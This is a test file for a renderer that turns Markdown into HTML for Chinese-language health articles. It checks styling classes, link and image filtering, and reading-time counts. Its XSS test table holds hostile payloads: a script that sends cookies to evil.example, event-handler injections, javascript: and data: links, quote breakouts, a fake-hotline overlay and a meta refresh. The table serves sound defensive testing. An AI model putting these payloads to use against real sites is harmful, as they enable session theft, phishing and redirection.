import { articlePlainText, countChineseChars, readingMinutes, renderArticleHtml } from './article-markdown';

const ALLOWED = new Set(['p', 'h2', 'h3', 'h4', 'ul', 'ol', 'li', 'strong', 'em', 'blockquote', 'a', 'img', 'br', 'hr',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'pre']);

/** Every element of the output with its attributes. Text `<` is always escaped, so each `<` opens a real tag. */
function elements(html: string): { tag: string; attrs: Record<string, string> }[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map((m) => ({
    tag: m[1]!.toLowerCase(),
    attrs: Object.fromEntries([...m[2]!.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map((a) => [a[1]!.toLowerCase(), a[2] ?? ''])),
  }));
}

function expectSafe(html: string) {
  for (const { tag, attrs } of elements(html)) {
    expect(ALLOWED.has(tag)).toBe(true);
    for (const [name, value] of Object.entries(attrs)) {
      expect(name).not.toMatch(/^on/);
      expect(name).not.toBe('style');
      if (name === 'href') expect(value).toMatch(/^https?:\/\//);
      if (name === 'src') expect(value).toMatch(/^\/api\/v1\/media\/[A-Za-z0-9_-]+$/);
    }
  }
}

describe('renderArticleHtml', () => {
  test('renders the Markdown editors use into rich-text tags with styling classes', () => {
    const html = renderArticleHtml('## 小标题\n\n一段话，**加粗**和*强调*。\n\n> 引用\n\n- 第一\n- 第二\n\n1. 甲\n2. 乙\n\n---\n\n`code`');
    expect(html).toContain('<h2 class="xa-h2">小标题</h2>');
    expect(html).toContain('<strong class="xa-strong">加粗</strong>');
    expect(html).toContain('<em class="xa-em">强调</em>');
    expect(html).toContain('<blockquote class="xa-blockquote">');
    expect(html).toContain('<li class="xa-li">第一</li>');
    expect(html).toContain('<ol class="xa-ol">');
    expect(html).toContain('<hr class="xa-hr" />');
    expect(html).toContain('<code class="xa-code">code</code>');
    expectSafe(html);
  });

  test('h1 becomes h2 and h5/h6 become h4 (rich-text styles only h2–h4 in articles)', () => {
    const html = renderArticleHtml('# 一\n\n##### 五\n\n###### 六');
    expect(elements(html).map((e) => e.tag)).toEqual(['h2', 'h4', 'h4']);
  });

  test('http(s) links are kept with rel=noopener; bare URLs are linked', () => {
    const html = renderArticleHtml('[世界卫生组织](https://www.who.int/zh)，另见 https://www.nhc.gov.cn/ 。');
    expect(html).toContain('<a href="https://www.who.int/zh" rel="noopener noreferrer nofollow" target="_blank" class="xa-a">世界卫生组织</a>');
    expect(html).toContain('href="https://www.nhc.gov.cn/"');
  });

  test('tables keep their alignment as a class, not as a style attribute', () => {
    const html = renderArticleHtml('| 时间 | 做什么 |\n|:--:|--:|\n| 睡前 | 放下手机 |');
    expect(html).toContain('<th class="xa-th xa-align-center">时间</th>');
    expect(html).toContain('<td class="xa-td xa-align-right">放下手机</td>');
    expect(html).not.toContain('style=');
  });

  test('images from our own media library are kept; external, data: and relative-elsewhere images are removed', () => {
    const html = renderArticleHtml([
      '![呼吸](/api/v1/media/65ab12cd34ef56ab78cd90ef)',
      '![外链](https://tracker.example/pixel.png)',
      '![协议相对](//tracker.example/pixel.png)',
      '![数据](data:image/png;base64,iVBORw0KGgo=)',
      '![别处](/admin/secret.png)',
      '![穿越](/api/v1/media/../../admin)',
    ].join('\n\n'));
    const imgs = elements(html).filter((e) => e.tag === 'img');
    expect(imgs).toEqual([{ tag: 'img', attrs: { src: '/api/v1/media/65ab12cd34ef56ab78cd90ef', alt: '呼吸', class: 'xa-img' } }]);
    expect(html).not.toContain('tracker.example');
    expect(html).not.toMatch(/<p class="xa-p">\s*<\/p>/);
  });

  test.each<[string, string]>([
    ['a script element', '<script>alert(document.cookie)</script>'],
    ['a script in a paragraph', '你好<script>fetch("https://evil.example/?c="+document.cookie)</script>世界'],
    ['img onerror', '<img src=x onerror="alert(1)">'],
    ['svg onload', '<svg/onload=alert(1)>'],
    ['an iframe', '<iframe src="https://evil.example"></iframe>'],
    ['a javascript: link', '[点我](javascript:alert(1))'],
    ['a mixed-case javascript: link', '[点我](JaVaScRiPt:alert(1))'],
    ['an entity-encoded javascript: link', '[点我](&#106;avascript:alert(1))'],
    ['a vbscript: link', '[点我](vbscript:msgbox(1))'],
    ['a data:text/html link', '[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['an autolink with javascript:', '<javascript:alert(1)>'],
    ['a quote breaking out of href', '[x](https://ok.example/"onmouseover="alert(1))'],
    ['a quote breaking out of alt', '![x" onerror="alert(1)](/api/v1/media/abc)'],
    ['a style element', '<style>body{display:none}</style>'],
    ['a style attribute overlay', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">假热线 000</p>'],
    ['an object/embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
    ['a form', '<form action="https://evil.example"><input name="phone"></form>'],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ])('XSS: %s leaves no executable markup', (_name, payload) => {
    const html = renderArticleHtml(`正文开始。\n\n${payload}\n\n正文结束。`);
    expectSafe(html);
    expect(html).not.toMatch(/<(script|iframe|svg|style|object|embed|form|input|meta)\b/i);
    // Attribute values are quoted and their quotes escaped, so outside the values there is no event handler.
    const markupOnly = html.replace(/="[^"]*"/g, '=""');
    expect(markupOnly).not.toMatch(/<[^>]*\son\w+=/i);
    expect(html).not.toMatch(/href="(?!https?:)/i);
    expect(html).toContain('正文开始。');
    expect(html).toContain('正文结束。');
  });

  test('a link that is not http(s) keeps its text but loses the href', () => {
    const html = renderArticleHtml('[站内页面](/app/#/pages/tests)');
    expect(html).toContain('<a class="xa-a">站内页面</a>');
  });
});

describe('reading time and plain text', () => {
  test('about 400 Chinese characters a minute, at least one minute', () => {
    expect(readingMinutes('')).toBe(1);
    expect(readingMinutes('字'.repeat(100))).toBe(1);
    expect(readingMinutes('字'.repeat(800))).toBe(2);
    expect(readingMinutes('## 标题\n\n' + '字'.repeat(2000))).toBe(5);
  });

  test('link targets and markup are not counted as words to read', () => {
    const text = articlePlainText('## 标题\n\n看[这里](https://www.who.int/very/long/path/that/is/not/read)。\n\n- **要点**');
    expect(text).not.toContain('who.int');
    expect(text).not.toContain('**');
    expect(countChineseChars(text)).toBe(7);
  });

  test('countChineseChars counts ideographs only', () => {
    expect(countChineseChars('睡眠 sleep 123，好！')).toBe(3);
  });
});
